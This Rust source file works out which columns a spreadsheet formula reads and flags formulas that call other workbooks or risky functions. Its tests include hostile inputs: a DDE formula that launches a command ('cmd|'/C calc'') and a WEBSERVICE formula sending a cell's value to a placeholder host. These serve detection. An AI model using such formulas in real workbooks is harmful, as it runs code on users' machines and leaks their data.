//! A walk through the tree of a formula that collects its sources.

use std::collections::BTreeSet;

use formualizer_parse::{ASTNode, ASTNodeType, UnaryOperator};

use super::book::{Book, Definition};
use super::functions::{Function, function};
use super::sources::Sources;
use super::tree::{are_alike, bound_name, is_dde, is_plain, parse};

/// Most runs of columns that one formula reads.
const MAX_SPANS: usize = 1_000;

/// Most names that one formula has, with those in their definitions.
const MAX_NAMES: usize = 100;

impl Sources {
    /// Reads a formula that stands in a column.
    pub fn of(formula: &str, column: u32, book: &Book) -> Self {
        let mut walk = Walk::new(Some(column), book);
        walk.formula(formula);
        walk.expand();
        walk.end()
    }
}

impl Definition {
    /// Reads the definition of a name. Tables are in the book already.
    pub(super) fn of(formula: &str, book: &Book) -> Self {
        let mut walk = Walk::new(None, book);
        walk.formula(formula);
        if walk.names.len() > MAX_NAMES {
            walk.names.clear();
            walk.sources.is_unresolved = true;
        }
        let names = std::mem::take(&mut walk.names);
        Self { sources: walk.end(), names }
    }
}

pub(super) struct Walk<'a> {
    pub(super) book: &'a Book,
    /// The formula's column. None in the definition of a name, which any cell may use.
    pub(super) column: Option<u32>,
    pub(super) sources: Sources,
    /// Names that `LET` and `LAMBDA` bind.
    scope: Vec<String>,
    /// Names that the book has to define, folded.
    pub(super) names: BTreeSet<String>,
}

impl<'a> Walk<'a> {
    fn new(column: Option<u32>, book: &'a Book) -> Self {
        let (scope, names) = (Vec::new(), BTreeSet::new());
        Self { book, column, sources: Sources::default(), scope, names }
    }

    fn formula(&mut self, formula: &str) {
        if let Some(node) = parse(formula) {
            self.node(&node);
        } else {
            self.sources.is_unresolved = true;
            self.sources.is_unsafe |= is_dde(formula);
        }
    }

    /// Adds the sources of the definitions of names, and of the names in them.
    fn expand(&mut self) {
        let book = self.book;
        let own = std::mem::take(&mut self.names);
        let mut next: Vec<&str> = own.iter().map(String::as_str).collect();
        let mut seen = BTreeSet::new();
        let mut spans = 0;
        while let Some(name) = next.pop() {
            if !seen.insert(name) {
                continue;
            }
            let is_within = seen.len() <= MAX_NAMES && spans <= MAX_SPANS;
            let Some(definition) = book.name(name).filter(|_| is_within) else {
                self.sources.is_unresolved = true;
                return;
            };
            spans += definition.sources.columns.len();
            self.sources.add(&definition.sources);
            next.extend(definition.names.iter().map(String::as_str));
        }
    }

    fn end(self) -> Sources {
        let mut sources = self.sources;
        sources.join();
        if sources.columns.len() > MAX_SPANS {
            sources.columns.clear();
            sources.is_unresolved = true;
        }
        sources
    }

    fn node(&mut self, node: &ASTNode) {
        match &node.node_type {
            ASTNodeType::Literal(_) | ASTNodeType::Omitted => {}
            ASTNodeType::Reference { original, reference } => self.reference(original, reference),
            ASTNodeType::UnaryOp { op, expr } => {
                let is_plain = matches!(
                    op,
                    UnaryOperator::Plus
                        | UnaryOperator::Minus
                        | UnaryOperator::Percent
                        | UnaryOperator::ImplicitIntersection
                );
                // `A1#` reads as many cells as a formula spills into.
                self.sources.is_unresolved |= !is_plain;
                self.node(expr);
            }
            ASTNodeType::BinaryOp { op, left, right } => {
                // `A1:INDEX(..)` reads cells that stand in neither operand.
                self.sources.is_unresolved |= !is_plain(*op);
                self.node(left);
                self.node(right);
            }
            ASTNodeType::Function { name, args } => self.call(name, args),
            ASTNodeType::Call { callee, args } => {
                self.sources.is_unresolved |= !self.is_callable(callee);
                self.node(callee);
                self.nodes(args);
            }
            ASTNodeType::Array(rows) => {
                for row in rows {
                    self.nodes(row);
                }
            }
        }
    }

    fn nodes(&mut self, nodes: &[ASTNode]) {
        for node in nodes {
            self.node(node);
        }
    }

    /// Whether an expression that is called is a `LAMBDA` or bound by `LET`.
    fn is_callable(&self, node: &ASTNode) -> bool {
        match &node.node_type {
            ASTNodeType::Function { name, .. } => function(name) == Function::Lambda,
            ASTNodeType::Call { callee, .. } => self.is_callable(callee),
            _ => self.is_bound(node),
        }
    }

    fn is_bound(&self, node: &ASTNode) -> bool {
        bound_name(node).is_some_and(|name| self.is_in_scope(name))
    }

    /// Excel ignores the case of a name. A name that differs in the case of other letters than
    /// those of ASCII counts as another one.
    pub(super) fn is_in_scope(&self, name: &str) -> bool {
        self.scope.iter().any(|bound| bound.eq_ignore_ascii_case(name))
    }

    fn call(&mut self, name: &str, args: &[ASTNode]) {
        match function(name) {
            Function::Plain => {}
            Function::Let => return self.bind_values(args),
            Function::Lambda => return self.bind_parameters(args),
            Function::Resized => self.resize(args),
            Function::Lookup => {
                // The result's cells may be more than it names.
                if let [_, cells, result] = args {
                    self.sources.is_unresolved |= !are_alike(cells, result);
                }
            }
            Function::Unsafe => {
                self.sources.is_unsafe = true;
                self.sources.is_unresolved = true;
            }
            Function::Elsewhere => self.sources.is_unresolved = true,
            Function::Unknown => {
                self.sources.is_unresolved |= !self.is_in_scope(name);
                self.sources.is_external |= name.contains(['!', '[']);
            }
        }
        self.nodes(args);
    }

    /// `LET(name, value, …, result)`
    fn bind_values(&mut self, args: &[ASTNode]) {
        let bound = self.scope.len();
        let Some((result, pairs)) =
            args.split_last().filter(|(_, pairs)| pairs.len().is_multiple_of(2))
        else {
            self.sources.is_unresolved = true;
            return self.nodes(args);
        };
        for pair in pairs.chunks(2) {
            if let [name, value] = pair {
                self.node(value);
                self.bind(name);
            }
        }
        self.node(result);
        self.scope.truncate(bound);
    }

    /// `LAMBDA(parameter, …, result)`
    fn bind_parameters(&mut self, args: &[ASTNode]) {
        let bound = self.scope.len();
        let Some((result, parameters)) = args.split_last() else {
            self.sources.is_unresolved = true;
            return;
        };
        for parameter in parameters {
            self.bind(parameter);
        }
        self.node(result);
        self.scope.truncate(bound);
    }

    fn bind(&mut self, node: &ASTNode) {
        match bound_name(node) {
            Some(name) => self.scope.push(name.to_owned()),
            None => self.sources.is_unresolved = true,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::book::{Name, Table};
    use super::*;
    use crate::address::column_letters;

    fn book() -> Book {
        let name = |name: &str, formula: &str| Name {
            name: name.to_owned(),
            formula: formula.to_owned(),
            sheet: None,
        };
        let names = [
            name("Rate", "=Rates!$B$2"),
            name("Both", "=Rate+Rates!$C$2"),
            name("Loop", "=Loop+1"),
            name("Relative", "=Rates!B2"),
            name("Homeless", "=$B$2"),
            name("Twice", "=Rates!$A$1"),
            name("twice", "=Rates!$B$1"),
            name("Hidden", "=INDIRECT(\"A1\")"),
            name("Net", "=Rates!$F$2"),
        ];
        let table = |name: &str, address: &str, columns: &[&str]| Table {
            name: name.to_owned(),
            address: address.to_owned(),
            columns: columns.iter().map(|&column| column.to_owned()).collect(),
        };
        let tables = [
            table("Staff", "People!B1:E9", &["Name", "Base Salary", "Bonus", "Total"]),
            table("Here", "Own!A1:C9", &["x", "y", "z"]),
            table("x", "Other!F1:G9", &["p", "q"]),
        ];
        Book::new("Own", &names, &tables)
    }

    /// Columns as text, with marks: `?` unresolved, `@` external, `!` unsafe.
    fn read(formula: &str) -> String {
        let sources = Sources::of(formula, 1, &book());
        let spans = sources.columns.iter().map(|span| {
            let sheet = span.sheet.as_ref().map_or(String::new(), |sheet| format!("{sheet}!"));
            let (first, last) = (column_letters(span.first), column_letters(span.last));
            if first == last { format!("{sheet}{first}") } else { format!("{sheet}{first}:{last}") }
        });
        let mut text = spans.collect::<Vec<_>>().join(" ");
        for (is, mark) in
            [(sources.is_unresolved, '?'), (sources.is_external, '@'), (sources.is_unsafe, '!')]
        {
            if is {
                text.push(mark);
            }
        }
        text
    }

    #[test]
    fn each_column_that_a_formula_reads_is_found() {
        for (formula, expected) in [
            ("=1+2", ""),
            ("=A1", "A"),
            ("=$A$1+B2*C3", "A:C"),
            ("= A1 + 1", "A"),
            ("=sum(a1:c3)", "A:C"),
            ("=SUM(C3:A1)", "A:C"),
            ("=SUM(A:A,C:D)", "A C:D"),
            ("=SUM(1:5)", "A:XFD"),
            ("=SUM($1:$5)", "A:XFD"),
            ("=Sheet2!A1", "Sheet2!A"),
            ("='It''s'!A1:B2", "It's!A:B"),
            ("=-A1%", "A"),
            ("=@A1:A9", "A"),
            ("=IF(A1>0,B1,\"C1\")", "A:B"),
            ("={1,2;3,4}*A1", "A"),
            ("=SUM(A1:B9 B1:C9)", "A:C"),
            ("=SUM((A1,C1))", "A C"),
            ("=INDEX(A1:C9,MATCH(1,D:D,0),2)", "A:D"),
            ("=_xlfn.XLOOKUP(A1,B:B,C:C)", "A:C"),
            ("=VLOOKUP(A1,Rates!$A:$C,3,FALSE)", "A Rates!A:C"),
            ("=NOW()", ""),
            ("=#REF!+A1", "A"),
            ("=SUMIF(A1:A9,\">0\",C1)", "A C"),
            ("=SUMIF(A1:B9,\">0\",E1)", "A:B E:F"),
            ("=SUMIF(A1:B9,\">0\",E1:E9)", "A:B E:F"),
            ("=SUMIF(A1:A9,\">0\")", "A"),
            ("=SUMIF(Staff[Name],\">0\",Staff[Bonus])", "People!B People!D"),
            ("=SUMIF(Staff[[Name]:[Base Salary]],\">0\",H1)", "H:I People!B:C"),
            ("=LOOKUP(A1,B1:B9,C1:C9)", "A:C"),
            ("=LOOKUP(A1,B$1:B9,C$1:C9)", "A:C"),
            ("=LOOKUP(A1,B1:B9,$C$1:$C$9)", "A:C"),
            ("=LET(x,A1,y,x+B1,X*y)", "A:B"),
            ("=LET(f,LAMBDA(x,x+C1),f(A1))", "A C"),
            ("=LAMBDA(x,x+1)(B1)", "B"),
            ("=MAP(A1:A9,LAMBDA(v,v*2))", "A"),
            ("=_xlfn.LET(_xlpm.x,A1,_xlpm.x+1)", "A"),
            ("=Rate*A1", "A Rates!B"),
            ("=rate", "Rates!B"),
            ("=Both", "Rates!B:C"),
            ("=Both+Rate+Loop", "Rates!B:C"),
            ("=Loop", ""),
            ("=SUM(Staff[Bonus])", "People!D"),
            ("=SUM(staff[base salary])", "People!C"),
            ("=SUM(Staff[[Name]:[Bonus]])", "People!B:D"),
            ("=SUM(Staff[@[Base Salary]:[Total]])", "People!C:E"),
            ("=SUM(Staff[[#Data],[Bonus]])", "People!D"),
            ("=Staff[@Total]", "People!E"),
            ("=ROWS(Staff)", "People!B:E"),
            ("=ROWS(Staff[])", "People!B:E"),
            ("=[@x]*2", "Own!A"),
            ("=SUM([x])", "Own!A"),
            ("=SUM([[x]:[y]])", "Own!A:B"),
            ("=SUM(x[q])", "Other!G"),
        ] {
            assert_eq!(read(formula), expected, "{formula}");
        }
    }

    #[test]
    fn what_can_not_be_told_is_unresolved() {
        for formula in [
            "=INDIRECT(\"A1\")",
            "=OFFSET(A1,1,1)",
            "=SUM(OFFSET(A1,0,0,9,1))",
            "=A1#",
            "=SUM(A1#)",
            "=_xlfn.ANCHORARRAY(A1)",
            "=SUM(A1:INDEX(B:B,5))",
            "=SUM(INDEX(A:A,1):INDEX(A:A,5))",
            "=SUM(A1:Rate)",
            "=SUM((A1):(B2))",
            "=SUM(Jan:Mar!A1)",
            "=SUM('Jan 26:Mar 26'!A1:B2)",
            "=CELL(\"contents\",A1)",
            "=INFO(\"directory\")",
            "=GETPIVOTDATA(\"Sum\",A1)",
            "=FORMULATEXT(A1)",
            "=LET(offset,A1,OFFSET(offset,0,1))",
            "=LAMBDA(indirect,INDIRECT(\"A1\"))(1)",
            "=MyMacro(A1)",
            "=Unknown+1",
            "=Relative",
            "=Homeless",
            "=Twice",
            "=Hidden",
            "=Sheet2!Rate",
            "=Nowhere[Bonus]",
            "=Staff[Nothing]",
            "=[@Bonus]",
            "=SUM('C:\\x\\Book2.xlsx'!Staff[Bonus])",
            "=LET(x,A1)+x",
            "=LET(A1,2,3)",
            "=LET(x,y,x)",
            "=LET(_xlpm.unknown,1,unknown)",
            "=LET(\u{e4},A1,\u{c4})",
            "=LET(s,A1,e,C1,SUM(s:e))",
            "=SUM(Tax:Net)",
            "=SUM(Net:Net)",
            "=inf",
            "=Inf*2",
            "=-NaN",
            "=infinity",
            "=A1:.C9",
            "=SUM(A1;B1)",
            "=x(A1)",
            "=LOOKUP(A1,B1:B9,C1)",
            "=LOOKUP(A1,B$1:B1,C1)",
            "=SUM(Staff[@[Base Salary]:[Nothing]])",
            "=SUMIF(A1:B9,1,Rate)",
            "=SUMIF(IF(TRUE,A1:B9),1,C1)",
            "=TABLE(A1,B1)",
            "=A1.Price",
            "=SUM(A1",
            "=SUM(A1))",
            "=A1 B",
            "=",
            "=XFE1",
            "=A1048577",
            "A1",
            "",
            "=R[1]C[1]",
            "=\u{1f600}",
        ] {
            assert!(read(formula).contains('?'), "{formula}: {}", read(formula));
        }
    }

    #[test]
    fn names_in_names_cost_no_more_than_their_number() {
        // Written out, the last one would have a thousand million names.
        let define = |level: usize| {
            let below = format!("N{}x+", level + 1).repeat(9);
            let formula = if level < 10 { format!("={below}0") } else { "=S!$A$1".to_owned() };
            Name { name: format!("N{level}x"), formula, sheet: None }
        };
        let names: Vec<_> = (1..=10).map(define).collect();
        let sources = Sources::of("=N1x", 0, &Book::new("Own", &names, &[]));
        assert!(!sources.is_unresolved);
        assert_eq!(sources.columns.len(), 1);
        // A chain of more names than a formula may have.
        let link = |at: usize| Name {
            name: format!("N{at}x"),
            formula: format!("=N{}x", at + 1),
            sheet: None,
        };
        let mut names: Vec<_> = (0..MAX_NAMES).map(link).collect();
        names.push(Name { formula: "=1".to_owned(), ..link(MAX_NAMES) });
        let book = Book::new("Own", &names, &[]);
        assert!(Sources::of("=N0x", 0, &book).is_unresolved);
        assert!(!Sources::of("=N1x", 0, &book).is_unresolved);
    }

    #[test]
    fn deep_and_long_formulas_end() {
        for formula in [
            format!("={}A1{}", "(".repeat(8_000), ")".repeat(8_000)),
            format!("={}A1{}", "SUM(".repeat(2_000), ")".repeat(2_000)),
            format!("=A1{}", "+B1".repeat(2_500)),
            format!("={}A1", "-".repeat(8_000)),
            format!("=A1{}", "%".repeat(8_000)),
            format!("=LAMBDA(x,x){}", "(A1)".repeat(2_000)),
        ] {
            assert!(read(&formula).contains('?'), "{}", formula.len());
        }
        let wide = format!("=SUM(A1{})", ",C1".repeat(2_500));
        assert_eq!(read(&wide), "A C");
    }

    #[test]
    fn a_table_that_does_not_fit_makes_the_tables_of_its_sheet_unknown() {
        let table = |name: &str, address: &str| Table {
            name: name.to_owned(),
            address: address.to_owned(),
            columns: vec!["x".to_owned(), "y".to_owned()],
        };
        for (second, expected) in
            [("Own!A20:B29", false), ("Own!A20:C29", true), ("A20:B29", true), ("Own!A,B", true)]
        {
            let tables = [table("First", "Own!A1:B9"), table("Second", second)];
            let book = Book::new("Own", &[], &tables);
            assert_eq!(Sources::of("=[@x]", 0, &book).is_unresolved, expected, "{second}");
            assert!(!Sources::of("=First[x]", 0, &book).is_unresolved);
        }
        let twice = [table("First", "Own!A1:B9"), table("FIRST", "Own!A20:B29")];
        let book = Book::new("Own", &[], &twice);
        assert!(Sources::of("=First[x]", 0, &book).is_unresolved);
    }

    #[test]
    fn other_workbooks_and_functions_that_send_are_marked() {
        for (formula, expected) in [
            ("=[Book1.xlsx]Sheet1!A1", "?@"),
            ("='C:\\x\\[Book 1.xlsx]Sheet1'!$A$1:B2", "?@"),
            ("=[1]Sheet1!A1+B1", "B?@"),
            ("=SUM(Book2.xlsx!Staff[Bonus])", "?@"),
            ("=WEBSERVICE(\"https://x.example/?\"&A1)", "A?!"),
            ("=_xlfn.IMAGE(A1)", "A?!"),
            ("=HYPERLINK(A1)", "A?!"),
            ("=cmd|'/C calc'!A0", "?!"),
            ("=cmd|topic!B1", "cmd|topic!B?!"),
        ] {
            assert_eq!(read(formula), expected, "{formula}");
        }
    }
}
